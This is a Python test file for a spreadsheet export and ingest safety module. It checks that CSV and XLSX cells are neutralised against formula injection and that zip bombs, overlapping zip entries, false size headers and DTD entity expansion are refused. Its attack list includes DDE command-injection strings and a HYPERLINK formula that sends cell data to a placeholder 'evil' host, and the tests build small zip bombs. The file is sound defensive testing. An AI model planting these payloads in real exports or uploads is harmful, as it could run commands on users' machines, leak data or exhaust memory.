"""Formula injection is neutralised in CSV and XLSX exports; zip bombs are refused before opening."""

from __future__ import annotations

import contextlib
import csv
import io
import os
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from uncounted.exceptions import IngestError
from uncounted.store.safe_export import (
    FORMULA_TRIGGERS,
    check_xlsx_safe,
    safe_cell,
    write_csv_safe,
    write_xlsx_safe,
)

from .helpers import CONTENT_TYPES, Member, make_zip

FUZZ = int(os.environ.get("UNCOUNTED_FUZZ_EXAMPLES", "200"))
ATTACKS = ['=1+1', '+cmd|" /C calc"!A0', "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "\n=1",
           "  =HYPERLINK(\"http://evil/?\"&A1)", "\u00a0=1", "＝1+1", "=cmd|'/c calc'!A1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_safe_cell_neutralises(attack: str) -> None:
    assert safe_cell(attack) == "'" + attack


@pytest.mark.parametrize("ok", ["Иванов", "Kyiv", "", " ", "'=already quoted", "a=b", "5-3"])
def test_safe_cell_leaves_plain_text(ok: str) -> None:
    assert safe_cell(ok) == ok


def test_safe_cell_leaves_numbers() -> None:
    assert safe_cell(-3) == -3 and safe_cell(None) is None and safe_cell(-2.5) == -2.5


@settings(max_examples=FUZZ, deadline=None)
@given(st.text())
def test_safe_cell_property(s: str) -> None:
    out = safe_cell(s)
    assert out in (s, "'" + s)  # never loses data
    first = out.lstrip(" \u00a0\u3000")[:1]
    assert first not in FORMULA_TRIGGERS  # never starts like a formula
    assert safe_cell(out) == out  # idempotent


def test_csv_and_xlsx_exports_are_inert(tmp_path: Path) -> None:
    rows = [[a, -1, "ok"] for a in ATTACKS]
    buf = io.StringIO()
    assert write_csv_safe(buf, ["=head", "n", "t"], rows) == len(ATTACKS)
    assert buf.getvalue().startswith("'=head")
    back = list(csv.reader(io.StringIO(buf.getvalue())))
    assert [r[0] for r in back[1:]] == ["'" + a for a in ATTACKS]
    assert {r[1] for r in back[1:]} == {"-1"}
    path = tmp_path / "x.xlsx"
    write_xlsx_safe(path, ["=head", "n", "t"], rows + [["bad\x00\x07xml", 1, 2]])
    wb = load_workbook(path)
    cells = [c for row in wb["data"].iter_rows() for c in row]
    assert not [c for c in cells if c.data_type == "f"]  # no formula cell at all
    assert wb["data"]["A2"].value == "'=1+1" and wb["data"]["B2"].value == -1
    assert wb["data"].cell(row=len(rows) + 2, column=1).value == "bad\ufffd\ufffdxml"
    wb.close()


# -- zip bombs ------------------------------------------------------------------------------

def _real_xlsx(tmp_path: Path) -> Path:
    p = tmp_path / "real.xlsx"
    write_xlsx_safe(p, ["a", "b"], [[i, f"name {i}"] for i in range(200)])
    return p


def test_real_workbook_passes(tmp_path: Path) -> None:
    rep = check_xlsx_safe(_real_xlsx(tmp_path))
    assert rep.n_entries >= 5 and rep.uncompressed_bytes > rep.compressed_bytes > 0


def test_ratio_bomb_refused() -> None:
    bomb = make_zip([CONTENT_TYPES, Member("xl/worksheets/sheet1.xml", b"\0" * (8 << 20))])
    with pytest.raises(IngestError, match="expands"):
        check_xlsx_safe(io.BytesIO(bomb))


def test_total_size_cap() -> None:
    big = make_zip([CONTENT_TYPES, Member("xl/a.bin", os.urandom(1 << 20), method=0),
                    Member("xl/b.bin", os.urandom(1 << 20), method=0)])
    with pytest.raises(IngestError, match="exceeds"):
        check_xlsx_safe(io.BytesIO(big), max_uncompressed=1 << 20)
    assert check_xlsx_safe(io.BytesIO(big)).n_entries == 3


def test_overlapping_entries_refused() -> None:
    # Fifield's construction in miniature: many names, one compressed kernel.
    kernel = Member("xl/k.xml", b"<a/>" * 1000)
    members = [CONTENT_TYPES, kernel] + [Member(f"xl/k{i}.xml", b"", same_data_as=1)
                                         for i in range(5)]
    with pytest.raises(IngestError, match="overlap"):
        check_xlsx_safe(io.BytesIO(make_zip(members)))


def test_size_lie_refused() -> None:
    lie = make_zip([CONTENT_TYPES, Member("xl/s.xml", b"<a>" + b"x" * 5000 + b"</a>",
                                          declared_size=100)])
    with pytest.raises(IngestError, match="corrupt|declares"):
        check_xlsx_safe(io.BytesIO(lie))


@pytest.mark.parametrize("enc", ["utf-8", "utf-16-le", "utf-16-be"])
def test_dtd_refused(enc: str) -> None:
    xml = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">]><a>&lol;</a>').encode(enc)
    doc = make_zip([CONTENT_TYPES, Member("xl/sharedStrings.xml", xml)])
    with pytest.raises(IngestError, match="DTD"):
        check_xlsx_safe(io.BytesIO(doc))


def test_not_a_zip_and_not_office(tmp_path: Path) -> None:
    p = tmp_path / "x.xlsx"
    p.write_bytes(b"PK\x03\x04 definitely not")
    with pytest.raises(IngestError, match="not an XLSX"):
        check_xlsx_safe(p)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("a.txt", "hi")
    with pytest.raises(IngestError, match="Content_Types"):
        check_xlsx_safe(io.BytesIO(buf.getvalue()))


def test_too_many_entries() -> None:
    doc = make_zip([CONTENT_TYPES] + [Member(f"{i}", b"", method=0) for i in range(20)])
    with pytest.raises(IngestError, match="members"):
        check_xlsx_safe(io.BytesIO(doc), max_entries=10)


@pytest.mark.fuzz
@settings(max_examples=FUZZ, deadline=None)
@given(data=st.binary(max_size=4096), cut=st.integers(0, 4096), flip=st.integers(0, 255))
def test_fuzz_check_xlsx_never_crashes(tmp_path_factory: pytest.TempPathFactory, data: bytes,
                                       cut: int, flip: int) -> None:
    # Mutate a real workbook (truncate, splice, flip a byte): only IngestError may come out.
    base = _BASE.get("x")
    if base is None:
        base = _real_xlsx(tmp_path_factory.mktemp("base")).read_bytes()
        _BASE["x"] = base
    cut = cut % (len(base) + 1)
    mutated = bytearray(base[:cut] + data + base[cut + len(data):])
    if mutated:
        mutated[cut % len(mutated)] ^= flip
    # Anything but IngestError (zlib.error, struct.error, MemoryError...) fails the test.
    with contextlib.suppress(IngestError):
        rep = check_xlsx_safe(io.BytesIO(bytes(mutated)))
        assert rep.uncompressed_bytes <= 256 * 1024 * 1024


_BASE: dict[str, bytes] = {}
